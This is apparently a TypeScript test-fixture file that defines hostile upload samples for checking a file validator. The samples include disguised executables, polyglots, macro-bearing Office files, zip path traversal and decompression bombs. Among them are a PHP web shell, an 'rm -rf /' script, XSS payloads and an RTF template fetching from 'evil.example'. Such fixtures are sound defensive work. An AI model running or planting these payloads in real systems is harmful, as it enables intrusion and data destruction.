import { type SampleFile, sampleFiles, sampleOffice, sampleOpenDocument, sampleZip } from './sample-files.ts';

const { csv, docx, gif, jpeg, odt, pdf, png, rtf, txt, webp, xlsx } = sampleFiles;

const after = (file: SampleFile, what: string | Buffer): SampleFile => ({
  ...file,
  bytes: Buffer.concat([file.bytes, Buffer.from(what)]),
});
const before = (file: SampleFile, what: string): SampleFile => ({
  ...file,
  bytes: Buffer.concat([Buffer.from(what, 'latin1'), file.bytes]),
});
const of = (file: SampleFile, bytes: string | Buffer): SampleFile => ({ ...file, bytes: Buffer.from(bytes) });

const archive = sampleZip({ name: 'a.txt' });
const program = Buffer.from('MZ\u0090\0\u0003\0\0\0PE\0\0', 'latin1');
const page = '<!doctype html><html><script>alert(1)</script></html>';
const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const macroType = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';

/** Files that are not of their type, or have additional content; by description. */
export const hostileFiles: Readonly<Record<string, SampleFile>> = {
  'a page named a PDF': of(pdf, page),
  'a page named a picture': of(png, page),
  'a page named a text': of(txt, page),
  'a page as it is': { name: 'a.html', type: 'text/html', bytes: Buffer.from(page) },
  'a drawing as it is': { name: 'a.svg', type: 'image/svg+xml', bytes: Buffer.from(drawing) },
  'a drawing named a picture': of(png, drawing),
  'a drawing named a text': of(txt, drawing),
  'a drawing declared a picture': { name: 'a.svg', type: 'image/png', bytes: Buffer.from(drawing) },
  'XML named a table': of(csv, '<?xml version="1.0"?><x/>'),
  'a program named a PDF': of(pdf, program),
  'a program named a text': of(txt, program),
  'a program as it is': { name: 'cv.exe', type: 'application/x-msdownload', bytes: program },
  'a program with two endings': { name: 'cv.pdf.exe', type: 'application/pdf', bytes: program },
  'a PDF with two endings': { ...pdf, name: 'cv.pdf.exe' },
  'a PDF named a page': { ...pdf, name: 'cv.pdf.html' },
  'a PDF without an ending': { ...pdf, name: 'pdf' },
  'a PDF with a full stop behind': { ...pdf, name: 'cv.pdf.' },
  'a PDF with a blank behind': { ...pdf, name: 'cv.pdf ' },
  'a PDF declared a page': { ...pdf, type: 'text/html' },
  'a PDF declared a picture': { ...pdf, type: 'image/png' },
  'an empty PDF': of(pdf, ''),
  'a PDF with junk before it': before(pdf, 'junk\n'),
  'a PDF behind a blank line': before(pdf, '\n'),
  'a PDF in a picture': of(gif, Buffer.concat([gif.bytes, pdf.bytes])),
  'a PDF of an unknown version': of(pdf, '%PDF-x'),
  'a PDF with a page at its head': of(pdf, `%PDF-1.4\n${page}\n%%EOF`),
  'a PDF with an archive behind it': after(pdf, archive),
  'a text that begins as a PDF': of(txt, pdf.bytes),
  'a text that holds a PDF': before(of(txt, pdf.bytes), 'hello\n'),
  'a text that is a script': of(txt, '#!/bin/sh\nrm -rf /\n'),
  'a text that is a script of a server': of(txt, '<?php system($_GET[0]);'),
  'a text that is PostScript': of(txt, '%!PS-Adobe-3.0\n'),
  'a text that is a mail': of(txt, 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n'),
  'a text with a NUL': of(txt, 'a\0b'),
  'a text with an escape': of(txt, 'a\u001b[31mb'),
  'a text of 16 bits': of(txt, Buffer.from('\ufeffhello', 'utf16le')),
  'a table with a page behind its mark': of(csv, `\ufeff  ${page}`),
  'a picture with an archive behind it': after(png, archive),
  'an animation with an archive behind it': after(gif, archive),
  'a photograph with an archive behind it': after(jpeg, archive),
  'an archive with a comment behind a photograph': after(jpeg, Buffer.concat([archive, Buffer.alloc(60_000, 32)])),
  'a photograph with an archive of another kind': after(jpeg, Buffer.from('Rar!\u001a\u0007\0', 'latin1')),
  'a photograph with one of a third kind': after(jpeg, Buffer.from("7z\u00bc\u00af'\u001c", 'latin1')),
  'a photograph with a script of a server': after(jpeg, '<?PHP system($_GET[0]); ?>'),
  'a picture with a script far within': after(png, `${' '.repeat(100_000)}<ScRiPt>alert(1)</script>`),
  'an animation that is a page': of(gif, `GIF89a<html>${page}`),
  'an animation that is a script': of(gif, 'GIF89a/*<script>*/=1;alert(1)'),
  'a picture of the web with a page': after(webp, page),
  'a picture cut to its mark': of(png, 'PNG'),
  'an archive as it is': { name: 'a.zip', type: 'application/zip', bytes: archive },
  'an archive named a document': of(docx, archive),
  'a document with a macro': of(docx, sampleOffice('word', { name: 'word/vbaProject.bin' })),
  'a table with an old macro': of(xlsx, sampleOffice('xl', { name: 'xl/macrosheets/sheet1.xml' })),
  'a document that says it has macros': of(
    docx,
    sampleZip({ name: '[Content_Types].xml', content: macroType }, { name: 'word/document.xml' }),
  ),
  'a document named for its macros': { ...docx, name: 'cv.docm' },
  'a document with a control': of(docx, sampleOffice('word', { name: 'word/activeX/activeX1.bin' })),
  'a document with a program': of(docx, sampleOffice('word', { name: 'word/embeddings/a.exe' })),
  'a document with an archive': of(docx, sampleOffice('word', { name: 'word/embeddings/a.zip' })),
  'a document that is a program of Java': of(docx, sampleOffice('word', { name: 'META-INF/MANIFEST.MF' })),
  'a document that leads out': of(docx, sampleOffice('word', { name: '../../etc/passwd' })),
  'a document that leads out otherwise': of(docx, sampleOffice('word', { name: '..\\evil' })),
  'a document that is locked': of(docx, sampleOffice('word', { name: 'word/a.xml', flags: 1 })),
  'a document that unpacks without end': of(
    docx,
    sampleOffice('word', { name: 'word/a.xml', unpacked: 4_000_000_000 }),
  ),
  'a document of many that unpack': of(
    docx,
    sampleOffice('word', ...Array.from({ length: 50 }, (_, at) => ({ name: `word/${at}.xml`, unpacked: 9_000_000 }))),
  ),
  'a document with too many parts': of(
    docx,
    sampleOffice('word', ...Array.from({ length: 5_001 }, (_, at) => ({ name: `word/${at}.xml` }))),
  ),
  'a document with something behind it': after(docx, 'x'),
  'a document with something before it': before(docx, 'x'),
  'a document behind another archive': of(docx, Buffer.concat([archive, docx.bytes])),
  'a document before another archive': of(docx, Buffer.concat([docx.bytes, archive])),
  'a document without its end': of(docx, docx.bytes.subarray(0, -10)),
  'a document without its types': of(docx, sampleZip({ name: 'word/document.xml' })),
  'a table named a text': { ...docx, bytes: xlsx.bytes },
  'an open document with a macro': of(odt, sampleOpenDocument('text', { name: 'Basic/Standard/Module1.xml' })),
  'an open document with a script': of(odt, sampleOpenDocument('text', { name: 'Scripts/python/a.py' })),
  'an open table named a text': of(odt, sampleOpenDocument('spreadsheet')),
  'an old document': {
    name: 'cv.doc',
    type: 'application/msword',
    bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  },
  'a rich text with an object': of(rtf, '{\\rtf1{\\object\\objdata 0105}}'),
  'a rich text with a template': of(rtf, '{\\rtf1{\\*\\template http://evil.example/a}}'),
  'a compressed file named a PDF': of(pdf, Buffer.from('1f8b0800000000000003', 'hex')),
};
